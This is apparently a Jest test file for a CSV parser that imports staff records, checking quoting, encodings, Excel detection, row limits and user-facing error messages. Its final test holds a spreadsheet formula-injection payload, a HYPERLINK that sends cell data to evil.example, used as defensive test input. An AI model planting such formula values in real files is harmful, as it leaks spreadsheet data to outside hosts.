import { DomainError } from '../../common/domain-error';
import { MAX_IMPORT_ROWS, parsePeopleCsv } from './people-csv';

const HEADER = 'email,name,unit,roles,manager_email';

describe('parsePeopleCsv', () => {
  it('reads quoted values with commas, quotes and line breaks, and numbers rows by the line they start on', () => {
    const csv = [
      HEADER,
      'Ada@Example.nhs.uk , "Lovelace, Ada",Wards,admin; Leader,',
      'bo@example.nhs.uk,"Bo ""The Boss""\nSecond line",Wards,,ada@example.nhs.uk',
      'cy@example.nhs.uk,Cy,,coach,ada@example.nhs.uk',
    ].join('\n');
    const parsed = parsePeopleCsv(csv);
    expect(parsed.errors).toEqual([]);
    expect(parsed.has).toEqual({ unit: true, roles: true, managerEmail: true });
    expect(parsed.rows).toEqual([
      {
        line: 2,
        email: 'ada@example.nhs.uk',
        name: 'Lovelace, Ada',
        unitName: 'Wards',
        roles: ['admin', 'leader'],
        managerEmail: null,
      },
      {
        line: 3,
        email: 'bo@example.nhs.uk',
        name: 'Bo "The Boss" Second line',
        unitName: 'Wards',
        roles: [],
        managerEmail: 'ada@example.nhs.uk',
      },
      {
        line: 5,
        email: 'cy@example.nhs.uk',
        name: 'Cy',
        unitName: null,
        roles: ['coach'],
        managerEmail: 'ada@example.nhs.uk',
      },
    ]);
  });

  it('counts CRLF as one line break, inside quotes too, skips blank lines and ignores a byte-order mark', () => {
    const csv = `\ufeff${HEADER}\r\na@x.org,"A\r\nA",,,\r\n\r\nb@x.org,B,,,\r\n`;
    const parsed = parsePeopleCsv(csv);
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows.map((r) => [r.line, r.email])).toEqual([
      [2, 'a@x.org'],
      [5, 'b@x.org'],
    ]);
  });

  it('accepts the columns in any order and without the optional ones', () => {
    const parsed = parsePeopleCsv('name,EMAIL\nAda,ada@x.org\n');
    expect(parsed.errors).toEqual([]);
    expect(parsed.has).toEqual({ unit: false, roles: false, managerEmail: false });
    expect(parsed.rows).toEqual([
      { line: 2, email: 'ada@x.org', name: 'Ada', unitName: null, roles: [], managerEmail: null },
    ]);
  });

  it('lists every error of every row, each with its line', () => {
    const csv = [
      HEADER,
      'not-an-email,,Wards,boss,', // 2: email, name, role
      'ok@x.org,Ok,,,',
      'OK@x.org,Again,,,', // 4: duplicate
      'self@x.org,Self,,,SELF@x.org', // 5: own manager
      'few@x.org,Few', // 6: field count
      'm@x.org,M,,,nope', // 7: manager email
    ].join('\n');
    expect(parsePeopleCsv(csv).errors).toEqual([
      { line: 2, message: 'email "not-an-email" is not an email address' },
      { line: 2, message: 'name is missing' },
      {
        line: 2,
        message: 'role "boss" is not one of admin, coach, leader (separate several roles with ";")',
      },
      { line: 4, message: 'email ok@x.org is also on line 3: list each person once' },
      {
        line: 5,
        message:
          'a person cannot be their own manager: leave manager_email empty or name someone else',
      },
      {
        line: 6,
        message:
          'has 2 fields but the header has 5: put a value that contains a comma in double quotes',
      },
      { line: 7, message: 'manager_email "nope" is not an email address' },
    ]);
  });

  it('explains a wrong header and reads no row', () => {
    const parsed = parsePeopleCsv('mail,name,team\nada@x.org,Ada,Wards\n');
    expect(parsed.rows).toEqual([]);
    expect(parsed.errors.map((e) => e.line)).toEqual([1, 1, 1]);
    expect(parsed.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(
        /^unknown column "mail": the first line must be the header email,name,unit,roles,manager_email/,
      ),
      expect.stringMatching(/^unknown column "team"/),
      expect.stringMatching(/^column "email" is missing/),
    ]);
  });

  it('says an empty file needs the header', () => {
    expect(parsePeopleCsv('\n\n').errors).toEqual([
      {
        line: 1,
        message: expect.stringMatching(/^The file is empty: the first line must be the header/),
      },
    ]);
  });

  it('points an unclosed quote at the line where its record starts', () => {
    const parsed = parsePeopleCsv(`${HEADER}\na@x.org,A,,,\nb@x.org,"B\nc@x.org,C,,,\n`);
    expect(parsed.errors).toEqual([{ line: 3, message: expect.stringMatching(/never closed/) }]);
  });

  it(`refuses more than ${MAX_IMPORT_ROWS} rows with a message that says to split the file`, () => {
    const rows = Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, i) => `p${i}@x.org,P${i}`);
    const attempt = () => parsePeopleCsv(['email,name', ...rows].join('\n'));
    expect(attempt).toThrow(DomainError);
    expect(attempt).toThrow(
      'The file has 20,001 people; import at most 20,000 at a time by splitting it into several files',
    );
  });

  describe('the file as uploaded', () => {
    const utf8 = (text: string) => Buffer.from(text, 'utf8');

    it('reads UTF-8 with and without a byte-order mark alike', () => {
      const text = `${HEADER}\nzoë@x.org,Zoë Ñúñez,Wards,,\n`;
      const plain = parsePeopleCsv(utf8(text));
      const withBom = parsePeopleCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(text)]));
      expect(plain.errors).toEqual([]);
      expect(withBom).toEqual(plain);
      expect(withBom.rows[0]).toMatchObject({ line: 2, email: 'zoë@x.org', name: 'Zoë Ñúñez' });
    });

    it("reads Excel's Unicode Text: UTF-16 with a byte-order mark, separated by tabs", () => {
      const text = 'email\tname\tunit\nzoe@x.org\tZoë\tWards, North\n';
      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
      const parsed = parsePeopleCsv(le);
      expect(parsed.errors).toEqual([]);
      expect(parsed.rows).toEqual([
        expect.objectContaining({ line: 2, name: 'Zoë', unitName: 'Wards, North' }),
      ]);
      const be = Buffer.from(le);
      be.swap16();
      expect(parsePeopleCsv(be).rows).toEqual(parsed.rows);
    });

    it('names the first line that is not UTF-8 and says how to save the file', () => {
      const latin1 = Buffer.concat([
        utf8(`${HEADER}\na@x.org,Ann,,,\n`),
        Buffer.from('zoe@x.org,Zo\xeb,,,\nb@x.org,Bo,,,\nc@x.org,Ch\xe9,,,\n', 'latin1'),
      ]);
      const parsed = parsePeopleCsv(latin1);
      expect(parsed.rows).toEqual([]);
      expect(parsed.errors).toEqual([
        {
          line: 3,
          message:
            'the file is not UTF-8 text: this line (and 1 other line) has characters in another encoding, such as Windows-1252; in Excel choose Save As and the type "CSV UTF-8 (Comma delimited)", then import that file',
        },
      ]);
    });

    it('recognises an Excel workbook and binary data', () => {
      const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(50, 7)]);
      expect(parsePeopleCsv(xlsx).errors).toEqual([
        {
          line: 1,
          message: expect.stringMatching(/^this is an Excel workbook \(\.xlsx\), not a CSV file/),
        },
      ]);
      const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
      expect(parsePeopleCsv(xls).errors[0]?.message).toMatch(/Excel 97-2003 workbook/);
      expect(parsePeopleCsv(Buffer.from([0x65, 0x00, 0x6d, 0x00])).errors[0]?.message).toMatch(
        /^the file holds binary data/,
      );
    });
  });

  it('reads a file separated by semicolons, with several roles in quotes', () => {
    const parsed = parsePeopleCsv(
      'email;name;unit;roles;manager_email\nada@x.org;"Lovelace; Ada";Wards, North;"leader;coach";\nbo@x.org;Bo;;;ada@x.org\n',
    );
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows).toEqual([
      {
        line: 2,
        email: 'ada@x.org',
        name: 'Lovelace; Ada',
        unitName: 'Wards, North',
        roles: ['leader', 'coach'],
        managerEmail: null,
      },
      {
        line: 3,
        email: 'bo@x.org',
        name: 'Bo',
        unitName: null,
        roles: [],
        managerEmail: 'ada@x.org',
      },
    ]);
    expect(parsePeopleCsv('email;name\nada@x.org;Ada;Extra\n').errors).toEqual([
      {
        line: 2,
        message:
          'has 3 fields but the header has 2: put a value that contains a semicolon in double quotes',
      },
    ]);
  });

  it('refuses cells that a spreadsheet would run as a formula, each with its line', () => {
    const csv = [
      HEADER,
      'a@x.org,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Wards,,', // 2
      'b@x.org,B,+Surgery,,', // 3
      'c@x.org,-C,,,', // 4
      '@d@x.org,D,,,', // 5
      'e@x.org,E,,,=1+2', // 6
      'f@x.org,"Fay-Smith, =not at start",Unit - East,,', // 7: fine
    ].join('\n');
    const parsed = parsePeopleCsv(csv);
    expect(parsed.errors).toEqual([
      {
        line: 2,
        message:
          'name "=HYPERLINK("http://evil.example/?"&A1,"C…" starts with "=", which a spreadsheet would run as a formula: remove the "=" or write the value differently',
      },
      { line: 3, message: expect.stringMatching(/^unit "\+Surgery" starts with "\+"/) },
      { line: 4, message: expect.stringMatching(/^name "-C" starts with "-"/) },
      { line: 5, message: expect.stringMatching(/^email "@d@x.org" starts with "@"/) },
      { line: 6, message: expect.stringMatching(/^manager_email "=1\+2" starts with "="/) },
    ]);
    expect(parsed.rows.map((r) => r.email)).toEqual([
      'a@x.org',
      'b@x.org',
      'c@x.org',
      'e@x.org',
      'f@x.org',
    ]);
  });
});
